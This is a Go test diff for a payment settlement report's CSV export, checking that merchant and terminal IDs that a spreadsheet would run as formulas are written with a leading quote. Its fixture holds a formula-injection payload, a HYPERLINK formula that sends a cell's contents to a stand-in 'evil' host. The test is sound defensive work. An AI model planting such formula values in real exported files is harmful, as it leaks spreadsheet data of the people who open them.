@@ -363,3 +363,33 @@ func TestSettlementOrderPaidAfterMidnight(t *testing.T) {
 		t.Errorf("the day of the payment: %+v, want it", got)
 	}
 }
+
+// TestSettlementCSVFormulaCells: a settlement file's text cells that a spreadsheet
+// would run as formulas (a merchant or terminal ID as the terminal sent it) are
+// written with a quote before them, while a negative net stays a number.
+func TestSettlementCSVFormulaCells(t *testing.T) {
+	loc, _ := time.LoadLocation("Asia/Shanghai")
+	noon := time.Date(2026, 12, 3, 12, 0, 0, 0, loc)
+	j, write := settleJournal(t)
+	write(&journal.Record{Received: noon, MTI: "0200", Type: "refund", RC: "00", Amount: 10000, Currency: "156",
+		MID: `=HYPERLINK("http://evil/"&A1,"x")`, TID: "@SUM(A1)"})
+	rep, err := Settle(t.Context(), j, "2026-12-03", loc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := rep.WriteCSV(&buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := rows[1]
+	if line[1] != "terminal" || line[2] != `'=HYPERLINK("http://evil/"&A1,"x")` || line[3] != "'@SUM(A1)" {
+		t.Errorf("terminal line %q: want the MID and TID quoted", line)
+	}
+	if line[9] != "-10000" || line[8] != "10000" {
+		t.Errorf("terminal line %q: want refund 10000 and net -10000 as numbers", line)
+	}
+}
